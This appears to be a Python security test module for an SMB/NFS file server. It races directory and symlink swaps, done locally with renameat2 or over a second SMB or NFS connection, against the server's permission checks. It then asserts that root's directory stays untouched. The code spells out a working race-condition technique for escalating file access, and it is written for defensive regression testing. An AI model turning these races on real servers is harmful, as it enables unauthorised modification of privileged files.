"""Races between the server's access check and the operation: a user exchanges a directory, whose stored
list permits name changes, with one of root. The exchange is done by a local process, or by a second
connection only."""

import contextlib
import ctypes
import os
import signal
import stat
import struct

from attack_server import ATTACKER, BYSTANDER, Server, attack, content_of, measure, require
from attacks_files import LIST, SECURITY, group_sid, link_data, onto, user_sid
from hostile_nfs import REMOVE, RENAME, SAVEFH, HostileNfs, make
from hostile_smb import (
    CREATED, DELETE_ON_CLOSE, DIRECTORY, EVERYTHING, OPENED_OR_CREATED, READS_AND_WRITES, REPARSE_POINT, SUCCESS,
    HostileSmb,
)
from raw_nfs import NfsStatus, attributes, opaque, words
from raw_smb import descriptor

# Attempts of each attack. On the server without the defence one of some hundreds succeeds.
TRIES = 2500
EXCHANGE, AT_CWD = 2, -100
LOOKS, DELETES, OVERWRITTEN_OR_CREATED = 0x1200A0, 0x13019F, 5
ROOTS = b"ROOTS"


def attacked():
    """A server with a directory of root, and the attacker's x and y in pub. The stored list of x permits the
    attacker name changes, its POSIX permissions do not. m and link are links to x and to root's directory."""
    server = Server()
    for name, mode, owner in (("roots", 0o755, 0), ("pub", 0o777, ATTACKER), ("pub/x", 0o700, ATTACKER),
                              ("pub/y", 0o700, ATTACKER)):
        path = server.path(name)
        os.mkdir(path)
        os.chmod(path, mode)
        os.chown(path, owner, owner)
    server.put("roots/conf", ROOTS.decode(), 0, 0o600)
    for link, target in (("m", "x"), ("link", "../roots")):
        os.symlink(target, server.path("pub/" + link))
        os.lchown(server.path("pub/" + link), ATTACKER, ATTACKER)
    smb = HostileSmb.of(server, "attacker")
    grants = (0, 0, EVERYTHING, user_sid(ATTACKER))
    # The list denies a group of which the attacker could be a member, so the POSIX permissions must deny, too.
    denies = [(0, 0, LOOKS, user_sid(ATTACKER)), (1, 0, EVERYTHING, group_sid(BYSTANDER)), grants]
    for name, entries in (("x", denies), ("y", [grants])):
        _, file = smb.open("pub\\" + name, 0x60000, options=DIRECTORY)
        require(smb.set(file, SECURITY, 0, descriptor(entries=entries), LIST) == SUCCESS, "no list is stored")
        smb.close(file)
    if os.lstat(server.path("pub/x")).st_mode & stat.S_IWUSR:
        raise AssertionError("POSIX lets the attacker add names")
    status, file = smb.open("pub\\x\\conf", EVERYTHING, CREATED)
    require(status == SUCCESS, "the list lets the attacker add nothing: %#x", status)
    smb.close(file)
    require(smb.open("roots\\new", EVERYTHING, CREATED)[0] != SUCCESS, "the attacker adds names to root's directory")
    return server, smb


@contextlib.contextmanager
def racing(swap):
    """Runs swaps in a child process until the body ends. `swap()` returns the function that it calls repeatedly."""
    child = os.fork()
    if child == 0:
        with contextlib.suppress(BaseException):
            once = swap()
            while True:
                once()
        os._exit(1)
    try:
        yield
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.kill(child, signal.SIGKILL)
        _, status = os.waitpid(child, 0)
        if not os.WIFSIGNALED(status):
            raise AssertionError("the swapping process has failed")


def exchange_locally(server):
    """A local process of the attacker that exchanges x with the link to root's directory."""
    def begin():
        os.setgroups([])
        os.setgid(ATTACKER)
        os.setuid(ATTACKER)
        libc = ctypes.CDLL(None)
        x, link = server.path("pub/x").encode(), server.path("pub/link").encode()
        return lambda: libc.renameat2(AT_CWD, x, AT_CWD, link, EXCHANGE)
    return begin


def redirect_over_smb(server):
    """A second connection of the attacker that makes the link m lead to x and to root's directory in turn."""
    def begin():
        smb = HostileSmb.of(server, "attacker")

        def once():
            for target in ("x", "..\\roots"):
                status, file = smb.open("pub\\t", EVERYTHING, OPENED_OR_CREATED, REPARSE_POINT)
                if status == SUCCESS:
                    smb.control(file, 0x900A4, link_data(target, 1))
                    onto(smb, file, "pub\\m", 10)
                    smb.close(file)
        return once
    return begin


def redirect_over_nfs(server):
    """The same over NFS."""
    def begin():
        nfs = HostileNfs.mounted(server, ATTACKER)
        pub = nfs.find("data", "pub")

        def once():
            for target in (b"x", b"../roots"):
                nfs.does(pub, make(5, "t", words(0, 0), opaque(target)), words(SAVEFH))
                nfs.does(pub, words(SAVEFH), words(RENAME) + opaque(b"t") + opaque(b"m"))
        return once
    return begin


def require_untouched(server, try_number):
    names, conf = sorted(os.listdir(server.path("roots"))), server.path("roots/conf")
    require(names == ["conf"], "after %d tries root's directory has %s", try_number, names)
    require(content_of(conf) == ROOTS and os.lstat(conf).st_uid == 0, "after %d tries root's file is replaced", try_number)


def race(server, way, tries=TRIES):
    """Runs an attack repeatedly; it returns whether it succeeded."""
    successes = 0
    for i in range(tries):
        successes += way(i)
        require_untouched(server, i + 1)
    measure("%s: %d of %d", way.__name__, successes, tries)


def ways_over_smb(smb, directory):
    """The attacks: create a name in a directory, replace a file in it, move a file out of it, remove one."""
    def creates(i):
        status, file = smb.open("%s\\new%d" % (directory, i), READS_AND_WRITES, CREATED)
        if file:
            smb.close(file)
        return status == SUCCESS

    def makes_directories(i):
        status, file = smb.open("%s\\newd%d" % (directory, i), READS_AND_WRITES, CREATED, DIRECTORY)
        if file:
            smb.close(file)
        return status == SUCCESS

    def replaces(_):
        _, file = smb.open("pub\\y\\mine", DELETES, OVERWRITTEN_OR_CREATED)
        if not file:
            return False
        status = onto(smb, file, directory + "\\conf", 10)
        smb.close(file)
        return status == SUCCESS

    def takes(i):
        _, file = smb.open(directory + "\\conf", 0x130080, OPENED_OR_CREATED)
        if not file:
            return False
        status = smb.rename(file, "pub\\y\\got%d" % i)
        smb.close(file)
        return status == SUCCESS

    def removes(_):
        _, file = smb.open(directory + "\\conf", 0x130080, OPENED_OR_CREATED, DELETE_ON_CLOSE)
        if file:
            smb.close(file)
        return file is not None

    return creates, makes_directories, replaces, takes, removes


@attack("Swaps a directory that grants adding with root's by a local process, and changes names in it over SMB")
def directory_swapped_locally_leads_to_no_other_over_smb():
    server, smb = attacked()
    for way in ways_over_smb(smb, "pub\\x"):
        with racing(exchange_locally(server)):
            race(server, way)


@attack("Does the same by a second SMB connection, which renames links over each other")
def directory_swapped_over_smb_leads_to_no_other():
    server, smb = attacked()
    for way in ways_over_smb(smb, "pub\\m"):
        with racing(redirect_over_smb(server)):
            race(server, way)


@attack("Does the same by NFS, where a second client renames links over each other")
def directory_swapped_over_nfs_leads_to_no_other():
    server, smb = attacked()
    for way in ways_over_smb(smb, "pub\\m"):
        with racing(redirect_over_nfs(server)):
            race(server, way)


@attack("Swaps the directory locally, and creates, renames and removes by its handle over NFS")
def directory_swapped_locally_leads_to_no_other_over_nfs():
    server, _ = attacked()
    nfs = HostileNfs.mounted(server, ATTACKER)
    x, y = nfs.find("data", "pub", "x"), nfs.find("data", "pub", "y")

    def creates(i):
        try:
            state, handle = nfs.open(x, "new%d" % i, 2, attributes())
        except NfsStatus:
            return False
        return nfs.close(handle, state) == 0

    def makes_directories(i):
        return nfs.does(x, make(2, "newd%d" % i, attributes())) == 0

    def makes_links(i):
        return nfs.does(x, make(5, "newl%d" % i, attributes(), opaque(b"conf"))) == 0

    def makes_pipes(i):
        return nfs.does(x, make(7, "newp%d" % i, attributes())) == 0

    def moved(source, old, target, new):
        put_target = words(22) + opaque(target)
        return nfs.does(source, words(SAVEFH), put_target, words(RENAME) + opaque(old) + opaque(new)) == 0

    def replaces(_):
        with contextlib.suppress(NfsStatus):
            state, handle = nfs.open(y, "mine", 2, attributes())
            nfs.close(handle, state)
        return moved(y, b"mine", x, b"conf")

    def takes(i):
        with contextlib.suppress(NfsStatus):
            state, handle = nfs.open(x, "conf", 2, attributes())
            nfs.close(handle, state)
        return moved(x, b"conf", y, b"got%d" % i)

    def removes(_):
        with contextlib.suppress(NfsStatus):
            state, handle = nfs.open(x, "conf", 2, attributes())
            nfs.close(handle, state)
        return nfs.does(x, words(REMOVE) + opaque(b"conf")) == 0

    for way in (creates, makes_directories, makes_links, makes_pipes, replaces, takes, removes):
        with racing(exchange_locally(server)):
            race(server, way)
